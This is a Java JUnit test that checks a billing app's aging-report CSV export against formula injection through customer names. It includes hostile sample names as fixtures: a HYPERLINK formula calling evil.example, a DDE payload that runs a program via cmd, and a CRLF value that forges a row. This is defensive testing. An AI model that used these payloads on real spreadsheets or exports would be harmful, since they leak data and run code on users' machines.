package io.fordra.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.fordra.FordraTestContext;
import io.fordra.ProcessTestSupport;
import io.fordra.customer.Country;
import io.fordra.customer.CustomerRequest;
import io.fordra.customer.CustomerType;
import io.fordra.invoice.Currency;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Finding 6 of issue 13 (CSV formula injection): customer names that a spreadsheet would run as formulas, or that
 * would add a row of their own, come out of aging.csv as text, one record per customer.
 */
@FordraTestContext
class CsvInjectionTest extends ProcessTestSupport {

  /** What a customer may be called, and what would happen if a spreadsheet took it as it is. */
  private static final List<String> NAMES = List.of(
      "=HYPERLINK(\"http://evil.example\",\"x\")",   // a link that leaks the sheet
      "+cmd|' /C calc'!A0",                           // DDE: runs a program
      "@SUM(1+1)",
      "-2+3",
      "\t=1+1",                                       // stored stripped: "=1+1"
      "\r=1+1",
      "Evil AB\r\nC-FAKE",                           // a row of its own
      "Quote \" and ; semicolon");

  @Test
  void namesThatLookLikeFormulasAreTextAndEveryCustomerIsOneRecord() throws IOException {
    List<String> numbers = new ArrayList<>();
    for (String name : NAMES) {
      CustomerRequest base = customer(CustomerType.PRIVATE, Country.SE, false, false);
      CustomerRequest customer = new CustomerRequest(base.customerNumber(), name, base.type(), base.priority(),
          base.country(), null, base.email(), null, base.address(), false, base.preferredChannel(), null, null);
      createInvoice(customer, Currency.SEK, LocalDate.of(2026, 4, 1));
      numbers.add(customer.customerNumber());
    }

    String csv = api().get().uri("/api/reports/aging.csv?date=2026-06-30").retrieve().body(String.class);

    assertThat(csv).startsWith("\uFEFF");
    List<CSVRecord> records = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
        .parse(new StringReader(csv.substring(1))).getRecords();
    AgingReport.Report report = api().get().uri("/api/reports/aging?date=2026-06-30").retrieve()
        .body(AgingReport.Report.class);
    // the header, one record per customer and currency, one per currency's totals: nothing more
    assertThat(records).hasSize(1 + report.customers().size() + report.totals().size());
    assertThat(records).allSatisfy(r -> assertThat(r.size()).as(r.toString()).isEqualTo(11));
    Map<String, CSVRecord> byNumber = records.stream().filter(r -> numbers.contains(r.get(0)))
        .collect(Collectors.toMap(r -> r.get(0), r -> r));
    assertThat(byNumber).hasSameSizeAs(NAMES);
    // as kept: a customer's name is stripped (only this test's customers: another's may have a row per currency)
    Map<String, String> stored = report.customers().stream().filter(r -> numbers.contains(r.customerNumber()))
        .collect(Collectors.toMap(AgingReport.Row::customerNumber, AgingReport.Row::customerName));
    numbers.forEach(number -> {
      String name = stored.get(number);
      String shown = byNumber.get(number).get(1);
      // OWASP: a text cell that starts like a formula gets a leading ' (shown, never run); others stay as they are
      assertThat(shown).isEqualTo("=+-@\t\r".indexOf(name.charAt(0)) >= 0 ? "'" + name : name);
      assertThat(new BigDecimal(byNumber.get(number).get(8))).isEqualByComparingTo("1250.00");
    });
    assertThat(records.stream().flatMap(CSVRecord::stream))
        .noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0)
        .noneMatch(cell -> cell.startsWith("-") && !cell.matches("-\\d+(\\.\\d+)?"));
  }
}
